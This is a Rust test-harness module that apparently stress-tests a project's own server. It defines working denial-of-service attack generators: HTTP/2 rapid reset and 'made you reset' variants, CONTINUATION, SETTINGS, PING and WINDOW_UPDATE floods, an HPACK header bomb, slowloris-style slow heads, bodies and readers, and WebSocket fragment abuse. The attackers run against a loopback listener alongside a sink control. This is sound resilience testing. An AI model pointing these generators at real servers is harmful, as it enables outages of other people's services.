//! Attackers of a public listener, each at a fixed pace, against anything that accepts connections.
//!
//! An attacker never looks whether it succeeds: it writes its burst, throws away what comes back, and
//! dials again when it is cut off. So the same attacker can be pointed at a sink, as the control.

use std::net::SocketAddr;
use std::time::Duration;

use bridgehead_tests::frames::{
    END_HEADERS, END_STREAM, PREFACE, block, frame, get, kind, request, reset, settings,
    window_update,
};
use bridgehead_tests::wait;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Between two bursts of one connection.
const PACE: Duration = Duration::from_millis(5);

/// An attack that is a series of bursts on connections.
#[derive(Clone, Copy)]
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Connections at once.
    pub(crate) connections: usize,
    /// Bytes of burst `n` for `host`; the first opens the connection.
    pub(crate) burst: fn(n: u32, host: &str) -> Vec<u8>,
    pub(crate) pace: Duration,
    /// What comes back is read.
    pub(crate) reads: bool,
}

pub(crate) const fn flood(name: &'static str, burst: fn(u32, &str) -> Vec<u8>) -> Attack {
    Attack {
        name,
        connections: 2,
        burst,
        pace: PACE,
        reads: true,
    }
}

/// Many connections that each do nearly nothing.
pub(crate) const fn slow(name: &'static str, burst: fn(u32, &str) -> Vec<u8>) -> Attack {
    Attack {
        name,
        connections: 60,
        burst,
        pace: Duration::from_millis(100),
        reads: true,
    }
}

/// HTTP/2: what belongs before the first burst.
fn open(values: &[(u16, u32)]) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    out.extend(settings(values));
    out
}

/// Stream ids of burst `n`, `count` of them.
fn ids(n: u32, count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(move |at| (n * count + at) * 2 + 1)
}

/// A burst on every connection but that the first also opens it.
fn begin(n: u32) -> Vec<u8> {
    match n {
        0 => open(&[]),
        _ => Vec::new(),
    }
}

/// `streams` requests that are each made to fail by `fault`.
fn provoke(n: u32, host: &str, head_flags: u8, fault: fn(u32) -> Vec<u8>) -> Vec<u8> {
    let mut out = begin(n);
    for id in ids(n, 20) {
        out.extend(request(id, "POST", host, "/c", head_flags));
        out.extend(fault(id));
    }
    out
}

/// A field block of references to one entry: small on the wire, large when it is read.
fn bomb(count: usize) -> Vec<u8> {
    let mut out = vec![0x40];
    out.extend([1, b'x']);
    out.push(127);
    // 3,127 bytes of value.
    out.extend([0xb8, 0x17]);
    out.extend(vec![b'y'; 3127 - 64]);
    out.extend(vec![b'z'; 64]);
    out.extend(vec![0x80 | 62; count]);
    out
}

/// All attacks, in the order in which they run.
pub(crate) const ATTACKS: &[Attack] = &[
    flood("rapid reset", |n, host| {
        let mut out = begin(n);
        for id in ids(n, 40) {
            out.extend(get(id, host, "/c"));
            out.extend(reset(id, 8));
        }
        out
    }),
    flood("made you reset: an increment of zero", |n, host| {
        provoke(n, host, END_HEADERS, |id| window_update(id, 0))
    }),
    flood("made you reset: a window beyond its end", |n, host| {
        provoke(n, host, END_HEADERS, |id| window_update(id, 0x7fff_ffff))
    }),
    flood("made you reset: DATA behind the end", |n, host| {
        provoke(n, host, END_HEADERS | END_STREAM, |id| {
            frame(kind::DATA, 0, id, b"x")
        })
    }),
    flood("made you reset: HEADERS behind the end", |n, host| {
        provoke(n, host, END_HEADERS | END_STREAM, |id| {
            get(id, "x.localhost", "/")
        })
    }),
    flood("made you reset: a priority of its own", |n, host| {
        provoke(n, host, END_HEADERS, |id| {
            let mut payload = id.to_be_bytes().to_vec();
            payload.push(1);
            frame(kind::PRIORITY, 0, id, &payload)
        })
    }),
    flood("made you reset: more than was declared", |n, host| {
        let mut out = begin(n);
        for id in ids(n, 20) {
            let fields = [
                (":method", "POST"),
                (":scheme", "http"),
                (":authority", host),
                (":path", "/c"),
                ("content-length", "1"),
            ];
            out.extend(frame(kind::HEADERS, END_HEADERS, id, &block(&fields)));
            out.extend(frame(kind::DATA, END_STREAM, id, b"xx"));
        }
        out
    }),
    flood("made you reset: behind a GOAWAY", |n, host| {
        let mut out = begin(n);
        if n == 0 {
            out.extend(frame(kind::GOAWAY, 0, 0, &[0; 8]));
        }
        // Those that it has opened, and ever new ones.
        for id in ids(n, 20) {
            out.extend(request(id, "POST", host, "/c", END_HEADERS));
            out.extend(window_update(id, 0));
            out.extend(window_update(1, 0));
        }
        out
    }),
    flood("continuation flood", |n, host| {
        let mut out = begin(n);
        if n == 0 {
            out.extend(request(1, "GET", host, "/c", 0));
        }
        for at in 0..20 {
            let name = format!("x-{n}-{at}");
            let piece = block(&[(name.as_str(), "y".repeat(200).as_str())]);
            out.extend(frame(kind::CONTINUATION, 0, 1, &piece));
        }
        out
    }),
    flood("settings flood", |n, _| {
        let mut out = begin(n);
        for at in 0..200 {
            out.extend(settings(&[(4, 65_535 + at)]));
        }
        out
    }),
    flood("ping flood", |n, _| {
        let mut out = begin(n);
        for _ in 0..200 {
            out.extend(frame(kind::PING, 0, 0, &[1; 8]));
        }
        out
    }),
    flood("window update flood", |n, _| {
        let mut out = begin(n);
        for _ in 0..200 {
            out.extend(window_update(0, 1));
        }
        out
    }),
    flood("empty DATA flood", |n, host| {
        let mut out = begin(n);
        if n == 0 {
            out.extend(request(1, "POST", host, "/c", END_HEADERS));
        }
        for _ in 0..200 {
            out.extend(frame(kind::DATA, 0, 1, b""));
        }
        out
    }),
    flood("field bomb at a closed window", |n, host| {
        let mut out = match n {
            0 => open(&[(4, 0)]),
            _ => Vec::new(),
        };
        for id in ids(n, 5) {
            let mut fields = block(&[
                (":method", "GET"),
                (":scheme", "http"),
                (":authority", host),
                (":path", "/c"),
            ]);
            fields.extend(bomb(2000));
            out.extend(frame(kind::HEADERS, END_HEADERS | END_STREAM, id, &fields));
        }
        out
    }),
    flood("garbage heads", |_, host| {
        format!("GET /c HTTP/1.1\r\nHost: {host}\r\nX : y\r\n\r\n").into_bytes()
    }),
    Attack {
        connections: 30,
        ..flood("connections that say nothing and leave", |_, _| Vec::new())
    },
    slow("slow heads", |n, host| match n {
        0 => format!("GET /c HTTP/1.1\r\nHost: {host}\r\n").into_bytes(),
        n => format!("X-{n}: 1\r\n").into_bytes(),
    }),
    slow("slow bodies", |n, host| match n {
        0 => format!("POST /c HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000\r\n\r\n")
            .into_bytes(),
        _ => b"x".to_vec(),
    }),
    Attack {
        reads: false,
        ..slow("slow readers", |n, host| match n {
            0 => format!("GET /bulk HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes(),
            _ => Vec::new(),
        })
    },
    Attack {
        connections: 2,
        reads: false,
        ..slow("slow readers of a hundred streams", |n, host| {
            let mut out = Vec::new();
            if n == 0 {
                out.extend(open(&[(4, 0)]));
                ids(0, 100).for_each(|id| out.extend(get(id, host, "/bulk")));
            }
            out
        })
    },
    Attack {
        connections: 2,
        reads: false,
        // Every window is open; it is the connection that is not read.
        ..slow("slow readers of a hundred open streams", |n, host| {
            let mut out = Vec::new();
            if n == 0 {
                out.extend(open(&[(4, 1 << 30)]));
                out.extend(window_update(0, 1 << 30));
                ids(0, 100).for_each(|id| out.extend(get(id, host, "/bulk")));
            }
            out
        })
    },
    slow("WebSocket fragments", |n, host| match n {
        0 => format!(
            "GET /ws HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
             Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        )
        .into_bytes(),
        // A fragment of no bytes that is never the last, and a size that never comes.
        n if n % 2 == 0 => [0x01, 0x80, 1, 2, 3, 4].repeat(50),
        _ => vec![
            0x02, 0xff, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 1, 2, 3, 4,
        ],
    }),
];

impl Attack {
    /// Attacks until dropped.
    pub(crate) async fn run(self, addr: SocketAddr, host: String) {
        let one = || self.again_and_again(addr, &host);
        futures_util::future::join_all((0..self.connections).map(|_| one())).await;
    }

    async fn again_and_again(&self, addr: SocketAddr, host: &str) {
        loop {
            if let Ok(stream) = TcpStream::connect(addr).await {
                self.connection(stream, host).await;
            }
            wait::dawdle(self.pace).await;
        }
    }

    /// Bursts until the peer has had enough.
    async fn connection(&self, stream: TcpStream, host: &str) {
        drop(stream.set_nodelay(true));
        let (mut from, mut to) = stream.into_split();
        let reading = async {
            let mut sink = vec![0; 64 * 1024];
            while self.reads && matches!(from.read(&mut sink).await, Ok(1..)) {}
            if !self.reads {
                std::future::pending::<()>().await;
            }
        };
        let writing = async {
            // An attacker that can go on for ever dials again now and then, as real ones do.
            for n in 0..2000 {
                let burst = (self.burst)(n, host);
                if n > 0 && burst.is_empty() && self.reads {
                    return;
                }
                if to.write_all(&burst).await.is_err() {
                    return;
                }
                wait::dawdle(self.pace).await;
            }
        };
        tokio::select! {
            () = reading => {}
            () = writing => {}
        }
    }
}

/// Accepts, reads and says nothing: what an attack costs by itself.
pub(crate) async fn sink() -> (SocketAddr, tokio::task::JoinSet<()>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("a loopback port is free");
    let addr = listener.local_addr().expect("an address");
    let mut tasks = tokio::task::JoinSet::new();
    tasks.spawn(async move {
        let mut connections = tokio::task::JoinSet::new();
        while let Ok((mut stream, _)) = listener.accept().await {
            connections.spawn(async move {
                let mut sink = vec![0; 64 * 1024];
                while matches!(stream.read(&mut sink).await, Ok(1..)) {}
            });
        }
    });
    (addr, tasks)
}
